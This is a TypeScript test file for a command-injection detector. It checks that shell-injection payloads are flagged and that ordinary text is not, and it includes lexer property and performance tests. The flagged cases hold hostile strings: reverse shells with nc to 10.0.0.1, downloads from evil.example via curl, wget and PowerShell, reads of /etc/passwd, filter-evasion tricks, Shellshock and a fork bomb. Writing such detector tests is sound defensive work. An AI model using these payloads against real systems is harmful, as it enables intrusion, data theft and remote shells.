import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Field } from "../../../model/field.ts";
import type { Match } from "../../detector.ts";
import { commandInjection } from "./command-injection.ts";
import { matchesGlob } from "./glob.ts";
import type { ShellCommand } from "./shell-command.ts";
import { lexShell, type QuoteContext } from "./shell-lexer.ts";

function detect(value: string, field: Partial<Field> = {}): Match | undefined {
  return commandInjection.detect({
    location: "query",
    name: "host",
    part: "value",
    type: "string",
    value,
    ...field,
  });
}

function isBlocked(value: string): boolean {
  const confidence = detect(value)?.confidence;
  return confidence === "medium" || confidence === "high";
}

describe("a value that starts a command of its own", () => {
  test.each([
    ["after a semicolon", ";id"],
    ["after a semicolon and an argument", "8.8.8.8; ls -la"],
    ["after a glued argument", "a;id"],
    ["in a substitution", "$(id)"],
    ["in backticks", "`sleep 5`"],
    ["in backticks glued to an argument", "x`id`"],
    ["on a new line", "8.8.8.8\nid"],
    ["on a written-out new line", "\\nid\\n"],
    ["in a pipe", "|whoami"],
    ["in a pipe between separators", "||/usr/bin/id|"],
    ["in the background", "& ping -n 10 127.0.0.1 &"],
    ["in a brace list", "a;{cat,/etc/passwd}"],
    ["after closing single quotes", "';id;'"],
    ["after closing double quotes", 'x" && ping -c 9 10.0.0.1 #'],
    ["after closing a bracket", "a);id"],
    ["in a subshell", "x&&(whoami)"],
    ["in a process substitution", "<(cat /etc/passwd)"],
    ["with quotes in its name", "; c'a't /etc/passwd"],
    ["with escapes in its name", ";w\\ho\\am\\i"],
    ["with empty parameters in its name", "x;c$@at /etc/passwd"],
    ["with an empty substitution in its name", "|wh``oami"],
    ["with carets in its name", "& w^h^o^a^m^i"],
    ["with another separator of words", ";cat$" + "{IFS}/etc/passwd"],
    ["with $IFS$9", "x|cat$IFS$9/etc/passwd"],
    ["with a pattern for a name", ";/???/c?t /e*c/p*d"],
    ["after an unset variable", "|$u wget test"],
    ["put together from variables", "a=cu;b=rl;$a$b evil.example"],
    ["by its path", "a|/usr/bin/id"],
    ["by a launcher", ";nohup nc -e /bin/sh 10.0.0.1 4444"],
    ["with redirections only", ";cat</etc/passwd"],
    ["in PowerShell", ";iwr http://evil.example/x.ps1"],
    ["as a cmdlet", "; Invoke-Expression -Command x.ps1"],
    ["with an ending", "&cmd.exe /c dir"],
    ["with a switch and no space", "image.jpg&bcdboot/r file.txt"],
    ["with plus signs for spaces", ";+cat+/etc/passwd"],
  ])("is flagged when it does so %s", (_how, value) => {
    expect(isBlocked(value)).toBe(true);
  });

  test.each([
    ["a file of the host", "cat /etc/passwd"],
    ["a reverse shell", "nc -lvvp 4444 -e /bin/sh"],
    ["a path to a program", "/usr/bin/id"],
    ["a pattern for a file", "/e?c/p?ss?d"],
    ["a download", "curl https://evil.example/x"],
    ["a launcher", "time ifconfig"],
    ["a Windows drive", "type C:\\boot.ini"],
    ["a loop of cmd.exe", "for /f \"delims=\" %i in ('whoami') do echo %i"],
    ["a condition of cmd.exe", "if not defined x set y=1"],
    ["a comparison of cmd.exe", 'IF /I "%var%" NEQ "0" ECHO x'],
    ["a call of a shell", "system('cat /etc/passwd')"],
    ["a qualified call", 'os.system("id")'],
    ["a server-side include", '<!--#exec cmd="/bin/id"-->'],
    ["an exported function", "() { :; }; /bin/bash -c id"],
    ["a fork bomb", ":(){ :|:& };:"],
    ["a working folder", "~+"],
  ])("is flagged when it is as a whole %s", (_what, value) => {
    expect(isBlocked(value)).toBe(true);
  });

  test("tells which mark opened it and what runs", () => {
    const match = detect('x" && wget http://evil.example #');
    expect(match?.confidence).toBe("high");
    expect(match?.explanation).toContain("after closing the quotes");
    expect(match?.explanation).toContain('"wget"');
  });

  test("spans the command from its separator", () => {
    const value = "8.8.8.8; cat /etc/passwd";
    const match = detect(value);
    expect(value.slice(match?.start, match?.end)).toBe("; cat /etc/passwd");
  });

  test("is noted with low confidence in a JSON field that is declared to hold commands", () => {
    const field = { location: "body", name: "$.container.command[0]" } as const;
    expect(detect("curl https://x.example/", field)?.confidence).toBe("low");
  });
});

describe("does not stop", () => {
  test.each([
    "return <Outlet />",
    "return '/'",
    "as the <term>attribute value</term>",
    "if (field === 1) layer.name = reader.readString();",
    "assert.equal(false, isView(function* () {}));",
    "> `npm install --save left-pad`",
    "### `Diff<T, U>`",
    "[`ab99527`](https://shop.example/commit/ab99527)",
    "the option `bash -c' of the shell",
    "| Export | Description |",
    "bin/main.c | 16 +++-----",
    "Move all header files to /usr/include/bsd and rename them",
    "rm -rf jokes",
    "Tom & Jerry",
    "a; b; c",
    "cats | dogs",
    "cats|dogs",
    "AT&T",
    "Q&A; id required",
    "https://shop.example/p?a=1&id=5",
    "https://shop.example/p?sort=asc&date&host=x",
    "R&D | sales",
    "$(5)",
    "$5; who knows",
    "Use `id` to print your user id",
    "Run `cat /etc/passwd` to see the users of the system.",
    "name;id;date",
    "id|name|title",
    "|id|name|",
    "{id,name}",
    "^(foo|id|cat)$",
    "joe@x.org; ann@y.org; sort@z.org",
    "body { color: red; top: 3px; cursor: pointer }",
    "`$" + "{user.name} & co`",
    "SELECT `id` FROM `t` WHERE `type` = 1;",
    "2026-11-23 10:00:00 INFO [main] Started; id=5 | user=7",
    "gzip, deflate;q=0.8, br",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "bash & zsh",
    "python;java",
    "vim | emacs",
    "Bread & butter; more cheese",
    "Thanks & regards",
    "Dear Sir,\nfind attached the report.\nThanks & regards",
    "ids:\nid\nname",
    "$('#id').find('.cat');",
    "=IF(A1>5;sort(B1);C1)",
    "regex: \\d+;\\w+",
    "C:\\new\\report",
    "/cgi-bin/report",
    "Set up MySQL",
    "time warner",
    "if x == 1 then stop",
    "exec('select 1')",
    "get-started & more",
    "&#8222;The Title&#8221;. After it, more",
    "```\ncat /etc/passwd | grep root; ls -la\n```",
    "#!/bin/bash\nset -e\napt-get update && apt-get install -y nginx\nls -la /etc\necho done",
    "",
  ])("%j", (value) => {
    expect(isBlocked(value)).toBe(false);
  });
});

describe("lexing", () => {
  const shellText = fc.string({ unit: fc.constantFrom(..."a;|&$(){}`'\"\\ \n<>#IFS,/?*[]=c0") });
  const contexts: readonly QuoteContext[] = ["none", "'", '"'];

  test("keeps every command inside the value, in order of its words", () => {
    fc.assert(
      fc.property(shellText, fc.constantFrom(...contexts), (value, context) => {
        lexShell(value, context, (command: ShellCommand) => {
          expect(command.openedAt).toBeLessThanOrEqual(command.start);
          expect(command.end).toBeLessThanOrEqual(value.length + 1);
          for (const word of command.words) expect(word.start).toBeLessThanOrEqual(word.end);
        });
      }),
      { numRuns: 2_000 },
    );
  });

  test("never throws as a detector", () => {
    fc.assert(
      fc.property(shellText, (value) => {
        detect(value);
      }),
      { numRuns: 2_000 },
    );
  });

  test("matches a text with itself turned into question marks", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z/]{1,30}$/), (text) => {
        expect(matchesGlob(text.replaceAll(/[a-z]/g, "?"), text)).toBe(true);
        expect(matchesGlob(`${text}?`, text)).toBe(false);
      }),
    );
  });

  test.each([
    ";",
    ";id ",
    "$(",
    "`",
    "${",
    "{a,",
    "'a\"",
    "&a",
    "system('",
    "() { ",
    "\\n",
    "a=b;",
    "a\n",
    "<(",
    "*?[",
    "word ",
    "(){",
  ])("stays linear on a megabyte of %j", (pump) => {
    const value = pump.repeat(1_048_576 / pump.length);
    const started = performance.now();
    detect(value);
    expect(performance.now() - started).toBeLessThan(6_000);
  });
});
